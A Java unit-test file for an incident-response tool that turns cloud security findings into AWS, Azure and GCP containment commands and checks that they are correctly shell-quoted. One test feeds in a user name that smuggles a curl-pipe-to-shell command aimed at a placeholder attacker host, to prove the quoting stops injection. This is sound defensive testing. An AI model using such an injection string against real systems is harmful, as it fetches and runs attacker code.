package dev.cadet.detectors.internal.incident;

import dev.cadet.detectors.testkit.E;
import dev.cadet.detectors.testkit.F;
import dev.cadet.model.ContainmentStep;
import dev.cadet.model.Decision;
import dev.cadet.model.Finding;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.Objects;

import static dev.cadet.detectors.testkit.E.role;
import static dev.cadet.detectors.testkit.E.t;
import static dev.cadet.detectors.testkit.E.user;
import static org.assertj.core.api.Assertions.assertThat;

class ContainmentTest {

    private static List<String> commands(List<ContainmentStep> steps) {
        return steps.stream().map(ContainmentStep::command).filter(Objects::nonNull).toList();
    }

    @Test
    void anIamUserGetsItsKeysDeactivatedAndItsPoliciesReviewed() {
        Finding f = F.from("F-0001", "iam-then-command",
                E.createKey(user("bob"), user("bob"), "AKIANEWKEYEXAMPLE001").at("09:00").build(),
                E.attachPolicy(user("bob"), user("bob"), "arn:aws:iam::aws:policy/AdministratorAccess").at("09:05").build(),
                E.command(user("bob")).key("AKIAUSEDKEYEXAMPLE01").at("09:30").targets("i-0123456789abcdef0")
                        .commandId("3b5f2c1e-0000-4000-8000-000000000001").build(),
                E.session(user("bob")).key("ASIATEMPORARYEXAMPLE").at("09:40")
                        .targets("arn:aws:ec2:us-east-1:111122223333:instance/i-0fedcba9876543210").build());
        List<String> cmds = commands(Containment.steps(Decision.ESCALATE_TIER2, List.of(f), t("09:40")));
        assertThat(cmds).contains(
                "aws ssm list-command-invocations --instance-id 'i-0123456789abcdef0' --details",
                "aws ssm list-command-invocations --instance-id 'i-0fedcba9876543210' --details",
                "aws ssm list-command-invocations --command-id '3b5f2c1e-0000-4000-8000-000000000001' --details",
                "aws iam update-access-key --user-name 'bob' --access-key-id 'AKIANEWKEYEXAMPLE001' --status Inactive",
                "aws iam update-access-key --user-name 'bob' --access-key-id 'AKIAUSEDKEYEXAMPLE01' --status Inactive",
                "aws iam delete-login-profile --user-name 'bob'",
                "aws iam list-attached-user-policies --user-name 'bob'",
                "aws iam detach-user-policy --user-name 'bob' --policy-arn 'arn:aws:iam::aws:policy/AdministratorAccess'",
                "aws ec2 modify-instance-attribute --instance-id 'i-0123456789abcdef0' --groups 'sg-QUARANTINE-GROUP-ID'");
        // Temporary keys expire on their own and cannot be deactivated.
        assertThat(cmds).noneMatch(c -> c.contains("ASIATEMPORARYEXAMPLE"));
    }

    @Test
    void anAssumedRoleGetsItsOlderSessionsRevokedAtTheLastActivity() {
        Finding f = F.from("F-0001", "failed-then-success",
                E.command(role("Admin", "mallory")).at(t("12:00") + 1500).build());
        List<String> cmds = commands(Containment.steps(Decision.ESCALATE_TIER2, List.of(f), t("12:00") + 1500));
        assertThat(cmds).contains("aws iam put-role-policy --role-name 'Admin' --policy-name AWSRevokeOlderSessions"
                + " --policy-document '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Deny\",\"Action\":[\"*\"],"
                + "\"Resource\":[\"*\"],\"Condition\":{\"DateLessThan\":{\"aws:TokenIssueTime\":\"2024-05-01T12:00:02Z\"}}}]}'");
        assertThat(Containment.revokeBefore(t("12:00"))).isEqualTo("2024-05-01T12:00:00Z");
    }

    @Test
    void failedAttemptsDoNotNameWhoToContain() {
        Finding f = F.from("F-0001", "failed-then-success",
                E.loginFailed(user("victim1")).at("10:00").build(), E.login(user("bob")).at("10:01").build());
        List<String> cmds = commands(Containment.steps(Decision.ESCALATE_TIER2, List.of(f), t("10:01")));
        assertThat(cmds).anyMatch(c -> c.contains("'bob'")).noneMatch(c -> c.contains("victim1"));
    }

    @Test
    void theManualPlaybookStepsComeLast() {
        List<ContainmentStep> steps = Containment.steps(Decision.TIER1_REVIEW,
                List.of(F.from("F-0001", "command-execution", E.command(user("dev")).build())), t("10:00"));
        assertThat(steps.subList(steps.size() - 4, steps.size())).extracting(ContainmentStep::description)
                .containsExactly("Reset credentials for potentially compromised accounts",
                        "Conduct a full audit of configurations and permissions associated with cloud management"
                                + " services (who may send commands or start sessions, command documents, instance roles)",
                        "Clean up unauthorized scripts or processes on the affected virtual machines",
                        "Monitor the environment for reattempts or further suspicious activity");
        assertThat(steps).filteredOn(s -> s.command() != null && s.command().startsWith("aws iam delete-login-profile"))
                .singleElement().extracting(ContainmentStep::description).asString()
                .startsWith("If the owner does not confirm the activity: ");
    }

    @Test
    void benignIncidentsGetNoSteps() {
        assertThat(Containment.steps(Decision.BENIGN,
                List.of(F.from("F-0001", "command-execution", E.command(user("ci")).build())), t("10:00"))).isEmpty();
    }

    @Test
    void identifiersFromTheLogAreSingleQuotedForTheShell() {
        String evil = "x';curl${IFS}evil.example|sh;'";
        Finding f = F.from("F-0001", "iam-then-command",
                E.createKey(user("admin"), user(evil), "AKIANEWKEYEXAMPLE001").at("09:00").build(),
                E.command(user(evil)).key("AKIAUSEDKEYEXAMPLE01").at("09:30").build());
        List<String> cmds = commands(Containment.steps(Decision.ESCALATE_TIER2, List.of(f), t("09:30")));
        String deleteProfile = cmds.stream().filter(c -> c.startsWith("aws iam delete-login-profile") && c.contains("curl"))
                .findFirst()
                .orElseThrow();
        assertThat(deleteProfile).isEqualTo("aws iam delete-login-profile --user-name 'x'\\'';curl${IFS}evil.example|sh;'\\'''");
        assertThat(shellWords(deleteProfile)).containsExactly("aws", "iam", "delete-login-profile", "--user-name", evil);
        // Every command splits into words with no shell syntax outside quotes.
        for (String c : cmds) {
            assertThat(shellWords(c)).as(c).isNotEmpty();
        }
        assertThat(cmds).filteredOn(c -> c.contains("--user-name")).hasSizeGreaterThan(3);
    }

    /** Splits a command the way a POSIX shell would, for the quoting used here (plain words and single quotes). */
    static List<String> shellWords(String command) {
        List<String> words = new ArrayList<>();
        StringBuilder word = new StringBuilder();
        boolean inWord = false;
        boolean quoted = false;
        for (int i = 0; i < command.length(); i++) {
            char c = command.charAt(i);
            if (quoted) {
                if (c == '\'') {
                    quoted = false;
                } else {
                    word.append(c);
                }
            } else if (c == '\'') {
                quoted = true;
                inWord = true;
            } else if (c == '\\' && i + 1 < command.length()) {
                word.append(command.charAt(++i));
                inWord = true;
            } else if (c == ' ') {
                if (inWord) {
                    words.add(word.toString());
                    word.setLength(0);
                    inWord = false;
                }
            } else {
                // Anything a shell would interpret must never appear outside quotes.
                assertThat("|;&$`<>()*?[]{}\"\n").as("unquoted '%s' in %s", c, command).doesNotContain(String.valueOf(c));
                word.append(c);
                inWord = true;
            }
        }
        assertThat(quoted).as("unterminated quote in %s", command).isFalse();
        if (inWord) {
            words.add(word.toString());
        }
        return words;
    }

    @Test
    void azureAndGcpMachinesAndIdentitiesGetAzAndGcloudCommandsQuoted() {
        String vm = "/subscriptions/sub-1/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/web'01";
        String gce = "projects/shop/zones/europe-west1-b/instances/web-1";
        Finding azure = F.from("F-0001", "command-execution", E.command("mallory@contoso.com")
                .provider(dev.cadet.model.Provider.AZURE).targets(vm).at("10:00").build());
        Finding gcp = F.from("F-0002", "user-data-swap", E.command("deployer@shop.iam.gserviceaccount.com")
                .provider(dev.cadet.model.Provider.GCP).targets(gce).at("10:05").build());
        List<String> cmds = commands(Containment.steps(Decision.ESCALATE_TIER2, List.of(azure, gcp), t("10:05")));
        assertThat(cmds).contains(
                "az vm run-command list --subscription 'sub-1' --resource-group 'prod' --vm-name 'web'\\''01'"
                        + " && az vm extension list --subscription 'sub-1' --resource-group 'prod' --vm-name 'web'\\''01'",
                "az ad user update --id 'mallory@contoso.com' --account-enabled false",
                "gcloud compute instances describe 'web-1' --project 'shop' --zone 'europe-west1-b' --format='yaml(metadata)'",
                "gcloud iam service-accounts disable 'deployer@shop.iam.gserviceaccount.com'");
    }
}
